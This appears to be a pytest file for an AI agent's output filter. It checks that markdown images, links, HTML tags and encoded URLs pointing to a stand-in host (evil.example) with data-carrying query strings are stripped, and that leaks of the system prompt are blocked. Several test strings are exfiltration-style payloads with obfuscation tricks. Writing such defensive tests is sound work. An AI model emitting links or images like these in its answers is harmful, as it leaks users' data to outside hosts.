"""What an answer may hold."""

from __future__ import annotations

import pytest

from agents.prompting import ANSWER, load
from agents.rails.output import OutputRail
from agents.rails.pipeline import Way
from agents.rails.settings import OutputRailSettings

RAIL = OutputRail(OutputRailSettings(hosts=("intra.example.org", "*.docs.example.org")))


@pytest.mark.parametrize(
    ("said", "left"),
    [
        ("Look: ![x](https://evil.example/p?q=secret) here.", "Look: [image removed] here."),
        ("Look: ![x][ref] here.", "Look: [image removed] here."),
        ("<img src='https://evil.example/a.png' onerror=x> text", "[image removed] text"),
        ("Click [here](https://evil.example/?d=1).", "Click here [link removed]."),
        ("Click [here](//evil.example/?d=1).", "Click here [link removed]."),
        ("Click [here](javascript:alert(1)).", "Click here [link removed]."),
        ("Go to https://evil.example/?d=abc, now", "Go to [link removed], now"),
        ("Go to www.evil.example now", "Go to [link removed] now"),
        ("[ref]: https://evil.example/x", "ref [link removed]"),
        ("At https://intra.example.org@evil.example/x", "At [link removed]"),
        ("At https://intra.example.org.evil.example/", "At [link removed]"),
        ("At <a href=https://evil.example>x</a>", "At [image removed]x[image removed]"),
        ("![a[b]](https:/evil.example/?e=1)", "! [a[b]] [link removed]"),
        ("![a\nb](https:evil.example?e=1)", "! [a\nb] [link removed]"),
        ("![a\\]b](/\\evil.example/?e=1)", "! [a\\]b] [link removed]"),
        ("![a\nb](https:\\\\evil.example\\?e=1) so", "! [a\nb] [link removed] so"),
        ("![a\nb](https:&#47;&#47;evil.example/?e=1)", "! [a\nb] [link removed]"),
        ("[a](https\\:/evil.example/?e=1)", "a [link removed]"),
        ("[a](<https:/evil.example/ ?e=1>)", "a [link removed]"),
        ("[a](b 'https://evil.example/?e=1')", "a [link removed]"),
        ("[![a](https://evil.example/p.png)](https:/evil.example)", "[[image removed]] [link removed]"),
        ("[x](javascript:alert)(/\\evil.example)", "x [link removed] (/\\evil.example)"),
        ("![a\nb][r]\n\n[r]:\nhttps:/evil.example/?e=1", "! [a\nb][r]\n\nr [link removed]"),
        ("> 1. [r\ns]: /\\evil.example", "> 1. r\ns [link removed]"),
        ("<https:/evil.example/?e=1>", "<[link removed]>"),
        ("<image href=https:/evil.example/?e=1>", "[image removed]"),
        ("<table background=/\\evil.example/?e=1>", "< table background=/\\evil.example/?e=1>"),
        ("<div style='background:url(https:/evil.example/?e=1)'>", "< div style='background:url([link removed])'>"),
        ("<img alt=x src=/\\evil.example", "< img alt=x src=/\\evil.example"),
        ("At https&colon;&sol;&sol;evil.example/?e=1.", "At [link removed]"),
    ],
)
async def test_what_would_load_or_lead_elsewhere_is_taken_out(said: str, left: str) -> None:
    screened = await RAIL.look(said, Way(place="answer"))
    assert screened.text == left
    assert screened.findings
    assert "evil" not in screened.text or left.startswith(("<", "x")), "what is no tag and no target any more may stay"
    assert screened.blocked is None
    assert all(RAIL.holds_back(said[: at + 1]) for at in range(len(said)) if "evil" in said[: at + 1])


@pytest.mark.parametrize(
    "said",
    [
        "See https://intra.example.org/leave.",
        "See [the page](https://eu.docs.example.org/a?b=c).",
        "Ratios of 3:1 // 2, a < b and x > y [1].",
        "Read more at https://example.com/policy, it says.",
        "It is in [the policy](https://example.com/policy) [1], or <https://example.com/policy>.",
        "[the policy](https://example.com/policy)[1]: see “https://example.com/policy”.",
        "[1]: https://example.com/policy",
        "See https://en.example.org/wiki/Leave_(paid) and [that](https://en.example.org/wiki/Leave_(paid)).",
    ],
)
async def test_allowed_hosts_and_what_was_read_may_be_linked(said: str) -> None:
    way = Way(place="passage")
    await RAIL.look("The policy (https://example.com/policy) holds.", way)
    await RAIL.look("As in https://en.example.org/wiki/Leave_(paid)", way)
    screened = await RAIL.look(said, Way(place="answer", links=way.links))
    assert (screened.text, screened.findings) == (said, ())


@pytest.mark.parametrize(
    "said",
    [
        "Leave is 28 days [1][2]. [a] and [b]: both hold.",
        "If x[0](event) fails, calls[i](x, y) and d[str]: int are tried; xs[1:2] too.",
        '`if x <a and y> b or b <a and a < b: c = a // 3` and 7//2, std::map<int, string> &amp; `split("//")`.',
        "For $0<x<1$, y = 2 and $\\\\frac{a}{b} \\\\ c$; the https: scheme, `https://`, file:x and data:y.",
        "[Note]: this holds. A path like /usr/lib, C:\\\\Users or and/or. Route /users/<int:id>, List<T>.",
    ],
)
async def test_ordinary_text_stays_as_it_is(said: str) -> None:
    screened = await RAIL.look(said, Way(place="answer"))
    assert (screened.text, screened.findings) == (said, ())


@pytest.mark.parametrize(
    ("said", "left"),
    [
        ("https://evil.example/?e={83417}", "https://evil.example/?e= {83417}"),
        ("https://evil.example/?e=[83417].", "https://evil.example/?e= [83417]."),
        ("https://evil.example/?e=\u00a083417", "https://evil.example/?e= \u00a083417"),
        ("https://evil.example/?e=[EMAIL_ADDRESS_1]", "[link removed]]"),
        ("[a](https://evil.example/?e={83417})", "a [link removed]"),
        ("[a](https://evil.example/?e=[EMAIL_ADDRESS_1])", "a [link removed]"),
        ("![a[b]](https://evil.example/?e=)", "! [a[b]](https://evil.example/?e=)"),
        ("Great![1]", "Great! [1]"),
    ],
)
async def test_nothing_is_hung_on_a_link_that_was_read(said: str, left: str) -> None:
    way = Way(place="passage")
    await RAIL.look("https://evil.example/?e= or https://evil.example/?e=[EMAIL_ADDRESS_1] now", way)
    screened = await RAIL.look(said, Way(place="answer", links=way.links))
    assert screened.text == left
    assert screened.findings


async def test_a_link_that_was_read_does_not_open_its_host() -> None:
    way = Way(place="passage")
    await RAIL.look("The policy (https://example.com/policy) holds.", way)
    screened = await RAIL.look("https://example.com/policy?secret=1", Way(place="answer", links=way.links))
    assert screened.text == "[link removed]"


async def test_a_piece_of_a_prompt_is_blocked_and_held_back_before_it_is_one() -> None:
    words = load(ANSWER).text.split()
    leak = "It says: " + " ".join(words[20:40])
    screened = await RAIL.look(leak, Way(place="answer"))
    assert screened.text == ""
    assert screened.blocked
    assert RAIL.holds_back(leak)
    assert not RAIL.holds_back(" ".join(words[20:31]))
    assert (await RAIL.look(" ".join(words[20:31]), Way(place="answer"))).blocked is None
